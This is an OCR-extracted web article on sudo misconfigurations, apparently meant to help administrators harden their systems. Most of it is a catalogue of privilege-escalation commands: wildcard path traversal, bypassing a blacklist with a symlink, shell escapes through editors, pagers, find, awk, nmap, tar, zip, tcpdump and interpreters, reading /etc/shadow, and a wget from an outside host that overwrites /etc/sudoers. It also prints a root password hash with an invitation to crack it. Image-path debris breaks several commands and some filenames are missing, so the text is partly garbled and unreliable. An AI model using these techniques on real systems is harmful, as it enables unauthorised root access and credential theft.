sudo abuse vectors

This page will try to give you overview, what you should not grant via sudo and in most cases it means what you should not allow to run/execute as root.

1. Using wildcards in sudo rules

Allowing wildcards in sudo commands arguments part generally allow access to everything else. Sudo does not allow/translate wildcards in the path partf.e. following can’t be abused with path traversal: user ALL=(root) NOPASSWD: /opt/xyz/*

BUT if the wildcard is in the argument, then its trivial:

Example 1:

# sudo rule created with intention to allow execution of shellscript in multiple directories:

user ALL=(root) NOPASSWD: /bin/sh /opt/foo/*/bin/# get root shell by creating custom file and use path traversal to run it
$ mkdir /tmp/bin
$ echo "/bin/bash" > /tmp/bin/
$ chmod +x /tmp/bin/
$ sudo /bin/sh /opt/foo/../../tmp/bin/

Example 2:

# sudo rule with intention to allow reading logs in /var/log:

user ALL=(root) NOPASSWD: /usr/bin/less /var/log/*

# Check out also other important files f.e. extract all details about users and password hashes. This provides good possibility for further privilege escalation troughexploiting other errors and resolving password hashes via rainbow tables.
$ sudo /usr/bin/less /var/log/../../etc/passwd
$ sudo /usr/bin/less /var/log/../../etc/sudoers
$ sudo /usr/bin/less /var/log/messages /etc/shadow
# In last command use ":n" to switch to next file. Edit and executing commands with less arecovered below.
less command has built-in shell too but this isn’t the point in this example. its about abusing wildcards with path traversal.

Example 3:

# sudo rules with chmod and chown with intention to allow user to change permissions/owners of some content.

user ALL=(root) NOPASSWD: /bin/chmod * /opt/foo/*

user ALL=(root) NOPASSWD: /bin/chown user1\:group2 /opt/foo/*’

Both rules above can be used to grant write privileges to /etc/shadow, /etc/sudoers etc. via path traversal and after that you are free to elevate your privileges via changing root password, granting yourself sudo privileges or adding suid bit to some binary or script or….there are probably many more ways for privesc if you can write into any file on the filesystem.

2. Allowing ALL command-alias with blacklist.

Blacklist can easily overridden using symlinks, its totally useless.

Allowing ALL allows also switching to other human or application users. In such case, even if switching to root is by some magic disabled, an attacker could jump from one user to another until finds one user with suitable sudo rights. NOPASSWD option is very helpful in such jumping.


# sudo rule with intention to allow all commands, except bash shell:
user ALL=(root) NOPASSWD: ALL, !/bin/bash

# create symlink to bash with different name and run it with sudo to get root-shell:$ ln -s /bin/bash ./foo$ sudo ./foo

3. Allowing execution of files/scriptswhat users can modify, as root.If user has permissions to modify file which is also allowed to be run-as-root, then adding a bash shell into first line of the script is pretty basic, not even worth of example.

4. Allowing execution of files/scripts what do not exist on some systems, as root.

If file does not exist but user can create it, then its pretty basic – just create a symlink in the place, pointing to bash shell.

5. Allowing execution of files/scripts residing in other-user-owned directory, as root.

Owning a directory allows user to move/rename/delete file in that directory no matter what other user-owned or permissions it has. So having some shell-script owned by root in directory owned by regular user is useless – user can just rename root script and create symlink to bash with same name.

6. Allowing installing, running package managers as root

An attacker could potentially download fake package, which will replace protected system files with specially craftedones.


npm  –  Node.js installation tool that allows installation of arbitrary modules with a configurable directory structure prefix path as root, which is both risky and most likely not needed.

7. NOPASSWD and !requiretty

Using NOPASSWD or !requiretty options must be carefully considered. Using both these options are justified in many cases but it does not mean they have to be configured as default.

NOPASSWD: – allows user to run sudo without entering user password. While itspretty normal to type in your password when running sudo rarely, on fewmachines, it gets really annoying and dangerous in large environments. Imagine yourself typing in your password on hundreds or thousands of machines? What if one of them has keylogger? Positive thing with having to type in your password is that nobody else can run commands via sudo which are granted to you, even if they somehow access your user account. It also gives you a few spare seconds while typing in the password, to reconsider – do you really want to run it? Non-interactive sudo usage unfortunately forces you to use NOPASSWD.

!requiretty option – user does not need to be logged in, have active terminal session. It is normal to use this option to run sudo commands in non-interactive batch jobs, from cron etc. Be careful when granting sudo privileges with that option to service accounts which run services exposed to the outside. For example if you grant sudo privileges with that option to apache user and your webserver is compromised, attacker could run the commands you are allowed to apache.

8. Allowing programs with built-in exec/edit/output possibility to be run as root.

Many programs have built-in possibility to execute commands as the same user as the parent process, edit file or write output to file without using pipes/redirection. Below are listed just more known programs, there are definitely many more.

vi /vim, nano, pico, ed, ne editors- built in command execution + editing.

$ sudo vim -c '!sh'


$ sudo vi <random file>

after thatpress :!sh and hit enter

$ sudo nano

just open and edit passwd/shadow files.

less , more file viewers/pagers – built in command execution + editing by launching external editor.

$ sudo less /etc/hosts

$ sudo more /etc/hosts

after that press !sh and hit enter

also, built in command “v” will open editor with currently viewed file.

NB! even if less is allowed with NOEXEC, user can still read all files on the server.gdb debugger – built in command execution + editing.

<example missing>

tcpdump network traffic dumping tool – while only very old tcpdump versions had built-in shell, new versions still have post-rotate command possibility (options -z with -Z).

$ echo $’id\ncat /etc/shadow’ > /tmp/.test
$ chmod +x /tmp/.test
$ sudo tcpdump -ln -i eth0 -w /dev/null -W 1 -G 1 -z /tmp/.test -Z root

find file searching tool – built in command execution.

$ sudofind /etc/passwd -exec /bin/sh \;


$ sudo find /bin -name nano -exec /bin/sh \;

awk pattern scanner and processor – built in command execution.

$ sudo awk ‘BEGIN {system(“/bin/sh”)}’

git versioncontrol – built in command execution.

<example missing>

nmap network exploration tool – built in command execution via ineractive mode (older versions) or via –script option (newer versions). can be used to print out protected file contents f.e. /etc/shadow.

old versions:

$ sudo nmap –interactive

$ nmap> !sh$ sh-4.1#

New versions, without interactive mode:

$ echo “os.execute(‘/bin/sh’)” > /tmp/shell.nse && sudo nmap –script=/tmp/shell.nse

Nmap can also be used to see protected files:

$ sudo nmap -iL /etc/shadow

apache webservers – apache2/httpd and probably many other binaries which accept custom config file as an option, will print some file contents as part of theerror message:

$ sudo /usr/sbin/httpd -f /etc/shadow

This will expose first line in /etc/shadow which happen to be always  ROOT 😀

Syntax error on line 1 of /etc/shadow:
Invalid command ‘root:$6$wQa.l/6z$gGV/bY0wX/HSlz9Idm1/sKiJoURnnzHN1BORhl7pOHEFW3dCuOPwuTBNaHaWWHq4ehlRSTP6zXJpo3RJFpA6C0:15943:0:99999:7:::’, perhaps misspelled or defined by a module not included in the server configuration

Now go and crack that hash with some tool.

man, pinfo man page viewer – built in command execution.

$ sudo man man

after that press !sh and hit enter$ sudo man -P id man

replace id with something more useful.

wget network downloader – possibility to save output to a protected file f.e. can download and replace entire /etc/shadow.

Create sudoers file somewhere which allows ALL for your user and after that apply it on local system with this:

$ sudo /usr/bin/wget http://yourhost/sudoers -O /etc/sudoers
If wget is allowed to be run-as-root, then it can also be used to send protected file to remote server with –post-file option.

mount filesystem mounter – possibility to bind mount any (f.e. bash) binary to anywhere in filesystem, including replacing the mount binary itself with shell 😀

$ sudo mount -o bind /bin/bash /bin/mount$ sudo mount

# id

uid=0(root) gid=0(root) groups=0(root)

strace system call tracer – built in command execution.

$ sudo strace -o/dev/null /bin/bash

python, ruby, irb, perl, lua, php and probably many other language interpreters – built in command execution. some may need extralibraries but its relatively easy to include.

$ sudo python -c ‘import pty;pty.spawn(“/bin/sh”)’

$ sudo ruby -e ‘exec “/bin/sh”‘

$ sudo perl -e ‘exec “/bin/sh”;’

file file type viewer – can be used to print out protected file contents f.e. /etc/shadow.

$ sudo file -m /etc/shadow

zip,tar packaging/compressing tools – built in commandexecution.

$ touch somefile

$ sudo zip -q /tmp/ somefile -T -TT ‘/bin/sh #’

$ sudo tar cf /dev/null somefile –checkpoint=1 –checkpoint-action=exec=/bin/sh

ssh,scp secure shell & file transfer – built in command execution.

rsync file copying tool – built in command execution.

